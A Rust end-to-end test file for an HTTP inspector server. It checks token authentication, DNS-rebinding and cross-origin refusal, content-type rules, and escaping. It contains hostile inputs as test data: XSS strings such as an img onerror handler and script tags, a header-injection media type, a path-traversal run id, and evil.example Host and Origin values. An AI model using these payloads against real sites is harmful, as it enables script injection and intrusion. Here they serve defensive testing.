//! `host serve` through the real binary, over HTTP on 127.0.0.1: every API
//! route on SQLite and on Postgres (a run started through the API, followed
//! on the runs list's event stream from before it started, waiting at its
//! approval node, refused answers that change nothing, answered, its own
//! event stream to its end; checkpoints, states, diffs, artifacts of a
//! research run that `host run` wrote into the same database; cancels; bad
//! input of each kind), the token rules (reads as writes), other names and
//! other sites refused, bodies that are not sent as JSON refused, artifact
//! media types checked by `host check`, and the pages in a real Chromium:
//! the inspector at work, a run's HTML, SVG and Markdown that cannot
//! script it, another site's page that cannot answer an approval, and
//! signing in with a token that no page keeps.

use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Child, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use skillhost_tests::cli::{KilledOnDrop, host_command, json as out_json, stderr};
use skillhost_tests::{free_port, repo_root};

fn approval() -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("e2e/engine/approval.toml")
        .display()
        .to_string()
}

/// A `host serve` process, killed when dropped.
struct Server {
    _process: KilledOnDrop,
    base: String,
    client: reqwest::blocking::Client,
}

impl Server {
    /// Starts `host serve ARGS` on a free loopback port with the test
    /// directory's database (or `db`), and waits until it answers.
    fn start(dir: &Path, db: Option<&str>, args: &[&str]) -> Server {
        let port = free_port();
        let addr = format!("127.0.0.1:{port}");
        let mut all = vec!["serve", "--addr", &addr];
        all.extend_from_slice(args);
        if let Some(db) = db {
            all.extend(["--database", db]);
        }
        let child = host_command(dir, &all, None)
            .current_dir(repo_root())
            .stdout(Stdio::null())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("start host serve");
        let server = Server {
            _process: KilledOnDrop::new(child),
            base: format!("http://{addr}"),
            client: reqwest::blocking::Client::builder()
                .timeout(Duration::from_secs(30))
                .build()
                .unwrap(),
        };
        let deadline = Instant::now() + Duration::from_secs(120);
        while server
            .client
            .get(server.url("/api/openapi.json"))
            .send()
            .is_err()
        {
            assert!(Instant::now() < deadline, "host serve did not start");
            std::thread::sleep(Duration::from_millis(100));
        }
        server
    }

    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }

    /// GET, the status and the body as JSON.
    fn get(&self, path: &str) -> (u16, Value) {
        let response = self.client.get(self.url(path)).send().unwrap();
        let status = response.status().as_u16();
        let text = response.text().unwrap();
        (
            status,
            serde_json::from_str(&text).unwrap_or(Value::String(text)),
        )
    }

    /// GET with an `Authorization` value.
    fn get_with(&self, path: &str, authorization: &str) -> (u16, Value) {
        let response = self
            .client
            .get(self.url(path))
            .header("authorization", authorization)
            .send()
            .unwrap();
        let status = response.status().as_u16();
        let text = response.text().unwrap();
        (
            status,
            serde_json::from_str(&text).unwrap_or(Value::String(text)),
        )
    }

    /// A request with the headers given (`host`, `origin`, `content-type`
    /// …), the status and the body as JSON (or text).
    fn send(&self, method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> (u16, Value) {
        let method = reqwest::Method::from_bytes(method.as_bytes()).unwrap();
        let mut request = self
            .client
            .request(method, self.url(path))
            .body(body.to_string());
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let response = request.send().unwrap();
        let status = response.status().as_u16();
        let text = response.text().unwrap();
        (
            status,
            serde_json::from_str(&text).unwrap_or(Value::String(text)),
        )
    }

    /// POST of raw bytes as JSON, with an optional bearer token.
    fn post_raw(&self, path: &str, body: Vec<u8>, token: Option<&str>) -> (u16, Value) {
        let mut request = self
            .client
            .post(self.url(path))
            .header("content-type", "application/json")
            .body(body);
        if let Some(token) = token {
            request = request.header("authorization", format!("Bearer {token}"));
        }
        let response = request.send().unwrap();
        let status = response.status().as_u16();
        let text = response.text().unwrap();
        (
            status,
            serde_json::from_str(&text).unwrap_or(Value::String(text)),
        )
    }

    fn post(&self, path: &str, body: &Value) -> (u16, Value) {
        self.post_raw(path, body.to_string().into_bytes(), None)
    }

    /// Opens an event stream; its events (name, data) arrive on the
    /// receiver, read on a thread of their own.
    fn events(&self, path: &str) -> mpsc::Receiver<(String, Value)> {
        let client = reqwest::blocking::Client::builder()
            .timeout(None)
            .build()
            .unwrap();
        let response = client.get(self.url(path)).send().unwrap();
        assert_eq!(response.status().as_u16(), 200, "GET {path}");
        assert!(
            response.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("text/event-stream")
        );
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            let mut name = String::new();
            for line in BufReader::new(response).lines() {
                let Ok(line) = line else { return };
                if let Some(n) = line.strip_prefix("event: ") {
                    name = n.to_string();
                } else if let Some(data) = line.strip_prefix("data: ") {
                    let data = serde_json::from_str(data).unwrap_or(Value::Null);
                    if tx.send((std::mem::take(&mut name), data)).is_err() {
                        return;
                    }
                }
            }
        });
        rx
    }
}

/// The first event on `rx` that `want` accepts, within a minute.
fn wait_for(
    rx: &mpsc::Receiver<(String, Value)>,
    what: &str,
    want: impl Fn(&str, &Value) -> bool,
) -> Value {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match rx.recv_timeout(left) {
            Ok((name, data)) if want(&name, &data) => return data,
            Ok(_) => {}
            Err(e) => panic!("no event {what}: {e}"),
        }
    }
}

/// Waits until GET `path` answers a JSON value that `done` accepts.
fn poll(server: &Server, path: &str, done: impl Fn(&Value) -> bool) -> Value {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let (status, body) = server.get(path);
        if status == 200 && done(&body) {
            return body;
        }
        assert!(Instant::now() < deadline, "GET {path}: {status} {body}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn error_of(reply: &(u16, Value)) -> &str {
    reply.1["error"]
        .as_str()
        .unwrap_or_else(|| panic!("no error: {reply:?}"))
}

/// Every route against one database (None: the test directory's SQLite
/// file; else a Postgres URL).
fn every_route(db: Option<&str>) {
    let dir = tempfile::tempdir().unwrap();
    let approval = approval();
    let server = Server::start(
        dir.path(),
        db,
        &["--scenarios", &approval, "examples/research"],
    );

    // The OpenAPI document, and the scenarios with their input schema.
    let (status, doc) = server.get("/api/openapi.json");
    assert_eq!(status, 200);
    assert!(doc["openapi"].as_str().unwrap().starts_with("3.1"));
    assert!(doc["paths"]["/api/runs/{id}/answer"]["post"].is_object());
    let (_, scenarios) = server.get("/api/scenarios");
    let names: Vec<&str> = scenarios["scenarios"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["approval", "research"]);
    assert_eq!(
        scenarios["scenarios"][0]["input_schema"]["properties"]["action"]["type"],
        "string"
    );

    // Bad starts write nothing.
    let reply = server.post(
        "/api/runs",
        &json!({"scenario": "approval", "input": {"action": 5}}),
    );
    assert_eq!(reply.0, 422, "{reply:?}");
    assert!(error_of(&reply).contains("action"), "{reply:?}");
    let reply = server.post("/api/runs", &json!({"scenario": "nope"}));
    assert_eq!(reply.0, 422);
    assert!(error_of(&reply).contains("approval, research"), "{reply:?}");
    let reply = server.post_raw("/api/runs", b"{not json".to_vec(), None);
    assert_eq!(reply.0, 400);
    assert!(error_of(&reply).contains("not valid JSON"), "{reply:?}");
    let reply = server.post("/api/runs", &json!(["approval"]));
    assert_eq!(reply.0, 400);
    let reply = server.post_raw("/api/runs", vec![b' '; 2 * 1024 * 1024], None);
    assert_eq!(reply.0, 413, "{reply:?}");
    assert!(error_of(&reply).contains("larger than"), "{reply:?}");
    // The rest of that body was never read: the server says the connection
    // is done, so no client sends its next request into it.
    let response = server
        .client
        .post(server.url("/api/runs"))
        .header("content-type", "application/json")
        .body(vec![b' '; 2 * 1024 * 1024])
        .send()
        .unwrap();
    assert_eq!(response.status().as_u16(), 413);
    assert_eq!(
        response.headers().get("connection").map(|v| v.as_bytes()),
        Some(&b"close"[..])
    );
    drop(response);
    assert_eq!(server.get("/api/runs").1["runs"], json!([]));

    // A run started after the list's stream connected shows on it, and
    // runs to its approval node.
    let list_events = server.events("/api/events");
    wait_for(&list_events, "ready", |name, _| name == "ready");
    let (status, started) = server.post(
        "/api/runs",
        &json!({"scenario": "approval", "input": {"action": "ship"}}),
    );
    assert_eq!(status, 201, "{started}");
    let id = started["id"].as_str().unwrap().to_string();
    wait_for(&list_events, "of the new run waiting", |name, data| {
        name == "run" && data["id"] == id.as_str() && data["status"] == "waiting"
    });
    let (status, detail) = server.get(&format!("/api/runs/{id}"));
    assert_eq!(status, 200);
    assert_eq!(detail["run"]["status"], "waiting");
    assert_eq!(detail["waiting"]["node"], "approve");
    assert_eq!(detail["waiting"]["prompt"], "Run ship (8 bytes)?");
    assert_eq!(detail["steps"][0]["node_id"], "prepare");

    // Answers that do not fit are refused, and the run still waits.
    let answer = format!("/api/runs/{id}/answer");
    let reply = server.post(&answer, &json!({"answer": {"approved": "yes"}}));
    assert_eq!(reply.0, 422, "{reply:?}");
    assert!(error_of(&reply).contains("approved"), "{reply:?}");
    let reply = server.post(&answer, &json!({"approved": true}));
    assert_eq!(reply.0, 400);
    let reply = server.post_raw(&answer, b"{\"answer\":".to_vec(), None);
    assert_eq!(reply.0, 400);
    assert_eq!(
        server.get(&format!("/api/runs/{id}")).1["run"]["status"],
        "waiting"
    );

    // The run's own stream, connected while it waits, follows the answer
    // to its end.
    let run_events = server.events(&format!("/api/runs/{id}/events"));
    let (status, answered) = server.post(
        &answer,
        &json!({"answer": {"approved": true}, "by": "tester"}),
    );
    assert_eq!(status, 200, "{answered}");
    assert_eq!(answered["by"], "tester");
    wait_for(&run_events, "step of `execute`", |name, data| {
        name == "step" && data["node_id"] == "execute"
    });
    let end = wait_for(&run_events, "end", |name, _| name == "end");
    assert_eq!(end["status"], "completed");
    let reply = server.post(&answer, &json!({"answer": {"approved": true}}));
    assert_eq!(reply.0, 409, "{reply:?}");
    // What to do is said as this API's routes, never as a `host` command.
    assert!(
        error_of(&reply).contains(&format!("see it with GET /api/runs/{id}")),
        "{reply:?}"
    );
    assert!(!error_of(&reply).contains("host "), "{reply:?}");

    // Checkpoints, the state at one, a diff.
    let (_, checkpoints) = server.get(&format!("/api/runs/{id}/checkpoints"));
    let list = checkpoints["checkpoints"].as_array().unwrap();
    assert_eq!(list[0]["seq"], 0);
    assert_eq!(list[1]["node_id"], "prepare");
    assert_eq!(list[1]["changes"][0]["field"], "length");
    let (status, state) = server.get(&format!("/api/runs/{id}/checkpoints/1/state"));
    assert_eq!(status, 200);
    assert_eq!(state["state"]["length"], 8);
    let (_, diff) = server.get(&format!("/api/runs/{id}/diff?from=0&to=1"));
    assert_eq!(diff["fields"]["length"]["after"], 8);
    let reply = server.get(&format!("/api/runs/{id}/checkpoints/99/state"));
    assert_eq!(reply.0, 404);
    assert!(error_of(&reply).contains("no checkpoint 99"), "{reply:?}");
    assert_eq!(
        server.get(&format!("/api/runs/{id}/checkpoints/x/state")).0,
        400
    );
    assert_eq!(server.get(&format!("/api/runs/{id}/diff?from=0")).0, 400);

    // Cancel: a waiting run at once; a finished one is a conflict.
    let (_, second) = server.post("/api/runs", &json!({"scenario": "approval"}));
    let second = second["id"].as_str().unwrap().to_string();
    poll(&server, &format!("/api/runs/{second}"), |d| {
        d["run"]["status"] == "waiting"
    });
    let (status, cancelled) = server.post(&format!("/api/runs/{second}/cancel"), &json!({}));
    assert_eq!(status, 200, "{cancelled}");
    assert_eq!(cancelled["result"], "cancelled");
    let reply = server.post(&format!("/api/runs/{second}/cancel"), &json!({}));
    assert_eq!(reply.0, 409, "{reply:?}");

    // The list: filters and pages.
    let (_, waiting) = server.get("/api/runs?status=waiting");
    assert_eq!(waiting["runs"], json!([]));
    let (_, page) = server.get("/api/runs?limit=1");
    assert_eq!(page["runs"][0]["id"], second.as_str());
    let cursor = page["next_cursor"].as_str().unwrap().to_string();
    let (_, next) = server.get(&format!("/api/runs?limit=1&cursor={cursor}"));
    assert_eq!(next["runs"][0]["id"], id.as_str());
    assert_eq!(next["next_cursor"], Value::Null);
    assert_eq!(
        server.get("/api/runs?scenario=research").1["runs"],
        json!([])
    );
    assert_eq!(server.get("/api/runs?status=done").0, 400);

    // A research run by `host run` on the same database: its report.
    let mut args = vec![
        "run",
        "research",
        "--input",
        r#"{"query": "retrieval augmented generation"}"#,
    ];
    if let Some(db) = db {
        args.extend(["--database", db]);
    }
    let out = host_command(dir.path(), &args, None)
        .current_dir(repo_root())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let (_, research) = server.get("/api/runs?scenario=research");
    let rid = research["runs"][0]["id"].as_str().unwrap().to_string();
    let (_, detail) = server.get(&format!("/api/runs/{rid}"));
    let artifact = detail["artifacts"][0]["name"].as_str().unwrap().to_string();
    let response = server
        .client
        .get(server.url(&format!("/api/runs/{rid}/artifacts/{artifact}")))
        .send()
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/markdown"),
        "{:?}",
        response.headers()
    );
    assert!(response.text().unwrap().contains("retrieval"));
    let reply = server.get(&format!("/api/runs/{rid}/artifacts/nope.md"));
    assert_eq!(reply.0, 404);
    assert!(error_of(&reply).contains(&artifact), "{reply:?}");

    // The run page: the graph with every node, the report rendered.
    let page = server
        .client
        .get(server.url(&format!("/runs/{rid}")))
        .send()
        .unwrap()
        .text()
        .unwrap();
    assert!(
        page.contains("<svg xmlns=\"http://www.w3.org/2000/svg\""),
        "{page}"
    );
    assert!(page.contains("data-node=\"claim_synthesis\""), "{page}");
    assert!(page.contains("<h1>") || page.contains("<h2>"), "{page}");
    assert!(!page.contains("http://") || !page.contains("<script src=\"http"));

    // Unknown runs and routes.
    for path in [
        "/api/runs/nope",
        "/api/runs/nope/checkpoints",
        "/api/runs/nope/checkpoints/0/state",
        "/api/runs/nope/diff?from=0&to=0",
        "/api/runs/nope/artifacts/report.md",
        "/api/runs/nope/events",
        "/api/nothing",
    ] {
        let reply = server.get(path);
        assert_eq!(reply.0, 404, "GET {path}: {reply:?}");
        assert!(reply.1["error"].is_string(), "GET {path}: {reply:?}");
    }
    for path in ["/api/runs/nope/answer", "/api/runs/nope/cancel"] {
        let reply = server.post(path, &json!({"answer": {"approved": true}}));
        assert_eq!(reply.0, 404, "POST {path}: {reply:?}");
        assert!(error_of(&reply).contains("nope"), "{reply:?}");
        assert!(error_of(&reply).contains("GET /api/runs"), "{reply:?}");
        assert!(!error_of(&reply).contains("host "), "{reply:?}");
    }
    // A hostile run id (a path, a quote, a new line) is only ever a
    // name: not found, said back as JSON, and nothing written.
    let reply = server.post(
        "/api/runs/..%2F%22%0Aerror:%20x/answer",
        &json!({"answer": {"approved": true}}),
    );
    assert_eq!(reply.0, 404, "{reply:?}");
    assert!(error_of(&reply).contains("../\"\nerror: x"), "{reply:?}");
    assert!(!error_of(&reply).contains("host "), "{reply:?}");
    // `host runs list` sees the same runs the API does.
    let mut list = vec!["runs", "list", "--json"];
    if let Some(db) = db {
        list.extend(["--database", db]);
    }
    let listed = out_json(&host_command(dir.path(), &list, None).output().unwrap());
    assert_eq!(listed.as_array().unwrap().len(), 3);
}

#[test]
fn every_route_on_sqlite() {
    every_route(None);
}

#[tokio::test(flavor = "multi_thread")]
async fn every_route_on_postgres() {
    let db = skillhost_tests::pg::fresh_database().await;
    tokio::task::spawn_blocking(move || every_route(Some(&db)))
        .await
        .unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn every_route_through_pgbouncer() {
    let db = skillhost_tests::pgbouncer::fresh_database().await.url;
    tokio::task::spawn_blocking(move || every_route(Some(&db)))
        .await
        .unwrap();
}

#[test]
fn a_non_loopback_address_needs_a_token() {
    let dir = tempfile::tempdir().unwrap();
    let addr = format!("0.0.0.0:{}", free_port());
    let out = host_command(dir.path(), &["serve", "--addr", &addr], None)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("is not a loopback address") && stderr(&out).contains("--token"),
        "{}",
        stderr(&out)
    );
    let empty = dir.path().join("token");
    std::fs::write(&empty, "\n").unwrap();
    let out = host_command(
        dir.path(),
        &[
            "serve",
            "--addr",
            &addr,
            "--token-file",
            empty.to_str().unwrap(),
        ],
        None,
    )
    .output()
    .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("token is empty"), "{}", stderr(&out));
}

#[test]
fn with_a_token_every_request_needs_it() {
    let dir = tempfile::tempdir().unwrap();
    let token_file = dir.path().join("token");
    std::fs::write(&token_file, "s3cret-token\n").unwrap();
    let approval = approval();
    let server = Server::start(
        dir.path(),
        None,
        &[
            "--token-file",
            token_file.to_str().unwrap(),
            "--scenarios",
            &approval,
        ],
    );
    let start = json!({"scenario": "approval"}).to_string().into_bytes();
    let reply = server.post_raw("/api/runs", start.clone(), None);
    assert_eq!(reply.0, 401, "{reply:?}");
    assert!(error_of(&reply).contains("Bearer"), "{reply:?}");
    let reply = server.post_raw("/api/runs", start.clone(), Some("guess"));
    assert_eq!(reply.0, 401, "{reply:?}");
    assert!(!error_of(&reply).contains("s3cret"), "{reply:?}");
    // Reading needs it too: states hold fetched pages, kv values and model
    // output.
    for path in [
        "/api/runs",
        "/api/scenarios",
        "/api/events",
        "/api/openapi.json",
    ] {
        let reply = server.get(path);
        assert_eq!(reply.0, 401, "GET {path}: {reply:?}");
    }
    // The scheme in any case.
    for scheme in ["Bearer", "bearer", "BEARER"] {
        let reply = server.get_with("/api/runs", &format!("{scheme} s3cret-token"));
        assert_eq!(reply.0, 200, "{scheme}: {reply:?}");
        // Nothing was written.
        assert_eq!(reply.1["runs"], json!([]));
    }
    let reply = server.post_raw("/api/runs", start, Some("s3cret-token"));
    assert_eq!(reply.0, 201, "{reply:?}");
    let id = reply.1["id"].as_str().unwrap().to_string();
    let reply = server.post_raw(&format!("/api/runs/{id}/cancel"), b"{}".to_vec(), None);
    assert_eq!(reply.0, 401);
    for path in [
        format!("/api/runs/{id}"),
        format!("/api/runs/{id}/checkpoints"),
        format!("/api/runs/{id}/events"),
        format!("/runs/{id}"),
    ] {
        let reply = server.get(&path);
        assert_eq!(reply.0, 401, "GET {path}: {reply:?}");
        assert!(
            !reply.1.to_string().contains(&id) || path.starts_with("/runs/"),
            "{reply:?}"
        );
    }
    // The run page without it is the sign-in page, holding nothing of the run.
    let page = server.get(&format!("/runs/{id}")).1;
    let page = page.as_str().unwrap();
    assert!(page.contains("data-page=\"signin\""), "{page}");
    assert!(!page.contains("approval"), "{page}");
    assert_eq!(
        server
            .get_with(&format!("/api/runs/{id}"), "bearer s3cret-token")
            .0,
        200
    );
}

/// The run state as the store holds it, read by `host runs show`.
fn stored_status(dir: &Path, db: Option<&str>, id: &str) -> String {
    let mut args = vec!["runs", "show", id, "--json"];
    if let Some(db) = db {
        args.extend(["--database", db]);
    }
    let shown = out_json(&host_command(dir, &args, None).output().unwrap());
    shown["status"].as_str().unwrap().to_string()
}

/// Starts a run of `approval` through the API and waits until it waits.
fn waiting_run(server: &Server) -> String {
    let (status, started) = server.post("/api/runs", &json!({"scenario": "approval"}));
    assert_eq!(status, 201, "{started}");
    let id = started["id"].as_str().unwrap().to_string();
    poll(server, &format!("/api/runs/{id}"), |d| {
        d["run"]["status"] == "waiting"
    });
    id
}

#[test]
fn other_names_other_sites_and_bodies_not_sent_as_json_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let approval = approval();
    let server = Server::start(
        dir.path(),
        None,
        &[
            "--scenarios",
            &approval,
            "--allowed-host",
            "inspector.example.com",
        ],
    );
    let id = waiting_run(&server);
    let port = server.base.rsplit(':').next().unwrap().to_string();
    let answer_path = format!("/api/runs/{id}/answer");
    let answer = json!({"answer": {"approved": true}, "by": "intruder"}).to_string();
    let json_type = ("content-type", "application/json");

    // DNS rebinding: a page under its own name that resolves to 127.0.0.1.
    for host in [
        "evil.example",
        &format!("evil.example:{port}"),
        "localhost:1",
    ] {
        for (method, path) in [
            ("GET", "/api/runs"),
            ("GET", "/"),
            ("GET", &format!("/runs/{id}") as &str),
            ("GET", &format!("/api/runs/{id}/checkpoints/1/state")),
            ("POST", &answer_path),
        ] {
            let reply = server.send(method, path, &[("host", host), json_type], &answer);
            assert_eq!(reply.0, 403, "{method} {path} Host {host}: {reply:?}");
            assert!(reply.1.to_string().contains("--allowed-host"), "{reply:?}");
            assert!(!reply.1.to_string().contains("\"prepare\""), "{reply:?}");
        }
    }
    // Another site's page, or an opaque one.
    for origin in [
        "http://evil.example",
        "null",
        &format!("http://127.0.0.1:{}", free_port()),
        &format!("http://localhost:{port}.evil.example"),
    ] {
        let reply = server.send(
            "POST",
            &answer_path,
            &[("origin", origin), json_type],
            &answer,
        );
        assert_eq!(reply.0, 403, "Origin {origin}: {reply:?}");
        assert!(error_of(&reply).contains("Origin"), "{reply:?}");
        let reply = server.send("GET", "/api/runs", &[("origin", origin)], "");
        assert_eq!(reply.0, 403, "GET with Origin {origin}: {reply:?}");
    }
    // A body that is not sent as JSON is not read as JSON.
    for content_type in [
        Some("text/plain"),
        Some("text/plain;charset=UTF-8"),
        Some("application/x-www-form-urlencoded"),
        Some("multipart/form-data; boundary=b"),
        None,
    ] {
        let headers: Vec<(&str, &str)> = content_type
            .map(|c| ("content-type", c))
            .into_iter()
            .collect();
        let reply = server.send("POST", &answer_path, &headers, &answer);
        assert_eq!(reply.0, 415, "{content_type:?}: {reply:?}");
        assert!(error_of(&reply).contains("application/json"), "{reply:?}");
    }
    // None of that answered it: the store still has it waiting.
    assert_eq!(stored_status(dir.path(), None, &id), "waiting");

    // Its own names, and the one given, are answered; its own pages'
    // Origin too.
    for host in [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        "inspector.example.com".to_string(),
    ] {
        let reply = server.send("GET", "/api/runs", &[("host", &host)], "");
        assert_eq!(reply.0, 200, "Host {host}: {reply:?}");
    }
    let own = format!("http://127.0.0.1:{port}");
    let reply = server.send(
        "POST",
        &answer_path,
        &[("origin", &own), json_type],
        &answer,
    );
    assert_eq!(reply.0, 200, "{reply:?}");

    // A name that is not one is refused at start.
    let out = host_command(
        dir.path(),
        &[
            "serve",
            "--addr",
            "127.0.0.1:0",
            "--allowed-host",
            "http://x/",
        ],
        None,
    )
    .output()
    .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("--allowed-host `http://x/`"),
        "{}",
        stderr(&out)
    );
}

/// The name of the directory of a broken scenario whose file does not
/// parse: it is listed by this name, and its reason names its path.
pub(crate) const HOSTILE_NAME: &str = "x<img src=x onerror=alert(1)>";

/// A directory of scenarios that cannot run: a file that is not TOML (its
/// directory's name, which its reason quotes, an image with a handler), a
/// cycle with no bound, an `fs` grant outside the scenario's directory.
/// Each is a `scenario.toml` in a directory of its own under `broken/`.
pub(crate) fn broken_scenarios(dir: &Path) -> std::path::PathBuf {
    let root = dir.join("broken");
    let write = |name: &str, text: &str| {
        let sub = root.join(name);
        std::fs::create_dir_all(&sub).unwrap();
        std::fs::write(sub.join("scenario.toml"), text).unwrap();
    };
    write(
        HOSTILE_NAME,
        "[scenario]\nname = \"bad\" <script>document.title = 'pwned'</script>\n",
    );
    write(
        "cycle",
        r#"[scenario]
name = "cycle"

[[node]]
id = "a"
kind = "gate"

[[node]]
id = "b"
kind = "gate"

[[node]]
id = "done"
kind = "end"

[[edge]]
from = "a"
to = "b"

[[edge]]
from = "b"
branches = [{ when = "true", to = "a" }, { else = "done" }]
"#,
    );
    write(
        "outside",
        &format!(
            r#"[scenario]
name = "outside"

[skills.echo]
component = "{}"

[[node]]
id = "read"
skill = "echo"
capabilities = {{ fs = "../../.." }}
input = {{ message = "'x'", repeat = "1" }}

[[node]]
id = "done"
kind = "end"

[[edge]]
from = "read"
to = "done"
"#,
            repo_root().join("skills/dist/echo.wasm").display()
        ),
    );
    root
}

/// The scenarios under `examples/`, by directory.
fn example_dirs() -> Vec<String> {
    let mut dirs: Vec<String> = std::fs::read_dir(repo_root().join("examples"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.join("scenario.toml").is_file())
        .map(|p| p.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    dirs.sort();
    dirs
}

/// `host serve --scenarios examples broken/`: it starts though
/// `research-llm` names an `llm` provider this host has no configuration
/// for and the broken scenarios do not load or pass the checker; it lists
/// each of them as unavailable with why, refuses only their starts (409,
/// naming the scenario and the reason, nothing written), and starts the
/// rest. The pages show the reasons as text.
#[test]
fn one_scenario_that_cannot_run_does_not_take_the_server_down() {
    let dir = tempfile::tempdir().unwrap();
    let broken = broken_scenarios(dir.path());
    let broken = broken.display().to_string();
    let server = Server::start(dir.path(), None, &["--scenarios", "examples", &broken]);
    let (status, listed) = server.get("/api/scenarios");
    assert_eq!(status, 200);
    let listed = listed["scenarios"].as_array().unwrap().clone();
    let by_name = |name: &str| -> &Value {
        listed
            .iter()
            .find(|s| s["name"] == name)
            .unwrap_or_else(|| panic!("no scenario `{name}` listed: {listed:?}"))
    };
    let research = by_name("research");
    assert_eq!(research["available"], true);
    assert!(research["input_schema"].is_object());
    assert!(research.get("reason").is_none());
    let llm = by_name("research-llm");
    assert_eq!(llm["available"], false);
    let reason = llm["reason"].as_str().unwrap();
    assert!(reason.contains("local"), "{reason}");
    assert!(llm.get("input_schema").is_none());
    for (name, says) in [
        (
            HOSTILE_NAME,
            "x<img src=x onerror=alert(1)>/scenario.toml:2: unexpected key",
        ),
        ("cycle", "max_visits"),
        ("outside", "outside the scenario's directory"),
    ] {
        let entry = by_name(name);
        assert_eq!(entry["available"], false, "{entry}");
        let reason = entry["reason"].as_str().unwrap();
        assert!(reason.contains(says), "{name}: {reason}");
    }
    let available = listed.iter().filter(|s| s["available"] == true).count();
    assert_eq!(available + 1, example_dirs().len(), "{listed:?}");

    // Their starts are refused, by name and with why; nothing is written.
    for name in ["research-llm", "cycle", HOSTILE_NAME] {
        let reply = server.post(
            "/api/runs",
            &json!({"scenario": name, "input": {"query": "rag"}}),
        );
        assert_eq!(reply.0, 409, "{reply:?}");
        let error = error_of(&reply);
        assert!(
            error.contains(&format!("scenario `{name}` cannot run on this server")),
            "{error}"
        );
        assert!(error.contains("host check"), "{error}");
    }
    assert!(
        error_of(&server.post("/api/runs", &json!({"scenario": "research-llm"}))).contains("local")
    );
    let (_, runs) = server.get("/api/runs");
    assert_eq!(runs["runs"], json!([]), "{runs}");
    let doc = server.get("/api/openapi.json").1;
    assert!(doc["paths"]["/api/runs"]["post"]["responses"]["409"].is_object());

    // The rest start and run.
    let reply = server.post(
        "/api/runs",
        &json!({"scenario": "research", "input": {"query": "retrieval augmented generation"}}),
    );
    assert_eq!(reply.0, 201, "{reply:?}");
    let id = reply.1["id"].as_str().unwrap().to_string();
    poll(&server, &format!("/api/runs/{id}"), |d| {
        d["run"]["status"] == "completed"
    });

    // A scenario's page: the reason as text, never markup; the graph of
    // one that parses.
    let page = |name: &str| -> String {
        let encoded: String = name
            .bytes()
            .map(|b| match b {
                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' => (b as char).to_string(),
                b => format!("%{b:02X}"),
            })
            .collect();
        let response = server
            .client
            .get(server.url(&format!("/scenarios/{encoded}")))
            .send()
            .unwrap();
        assert_eq!(response.status().as_u16(), 200, "/scenarios/{name}");
        response.text().unwrap()
    };
    let hostile = page(HOSTILE_NAME);
    assert!(!hostile.contains("<img src=x"), "{hostile}");
    assert!(!hostile.contains("<script>document"), "{hostile}");
    assert!(
        hostile.contains("x&lt;img src=x onerror=alert(1)&gt;"),
        "{hostile}"
    );
    assert!(hostile.contains("unexpected key or value"), "{hostile}");
    let llm_page = page("research-llm");
    assert!(llm_page.contains("<svg"), "{llm_page}");
    assert!(llm_page.contains("class=\"error reason\""), "{llm_page}");
    let research_page = page("research");
    assert!(
        research_page.contains("data-node=\"paper_discovery\""),
        "{research_page}"
    );
    let response = server
        .client
        .get(server.url("/scenarios/nope"))
        .send()
        .unwrap();
    assert_eq!(response.status().as_u16(), 404);
}

/// A scenario whose run writes the artifacts `input` gives: an HTML page, an
/// SVG picture and a Markdown report.
fn hostile_scenario(dir: &Path) -> String {
    let echo = repo_root().join("skills/dist/echo.wasm");
    let file = dir.join("hostile.toml");
    std::fs::write(
        &file,
        format!(
            r#"[scenario]
name = "hostile"
version = "0.1.0"

[input]
html = {{ type = "string" }}
svg = {{ type = "string" }}
markdown = {{ type = "string" }}

[skills.echo]
component = "{}"

[[node]]
id = "write"
skill = "echo"
input = {{ message = "'x'", repeat = "1" }}
artifacts = [
  {{ name = "page.html", from = "input.html", media_type = "text/html" }},
  {{ name = "picture.svg", from = "input.svg", media_type = "image/svg+xml" }},
  {{ name = "report.md", from = "input.markdown", media_type = "text/markdown" }},
]

[[node]]
id = "done"
kind = "end"

[[edge]]
from = "write"
to = "done"
"#,
            echo.display()
        ),
    )
    .unwrap();
    file.display().to_string()
}

#[test]
fn host_check_refuses_media_types_that_are_not_and_serve_never_echoes_one() {
    let dir = tempfile::tempdir().unwrap();
    let good = hostile_scenario(dir.path());
    let text = std::fs::read_to_string(&good).unwrap();
    for bad in [
        r#"text/markdown"><script>alert(1)</script>"#,
        r#"text/html
X-Injected: yes"#,
        "",
        "html",
        "text/html; charset",
        "text/html x",
    ] {
        let file = dir.path().join("bad.toml");
        std::fs::write(
            &file,
            // A TOML basic string: JSON's escapes are TOML's.
            text.replace(
                r#"media_type = "text/html""#,
                &format!("media_type = {}", Value::String(bad.into())),
            ),
        )
        .unwrap();
        let out = host_command(dir.path(), &["check", file.to_str().unwrap()], None)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{bad}: {}", stderr(&out));
        let said = stderr(&out);
        assert!(
            said.contains("node `write`")
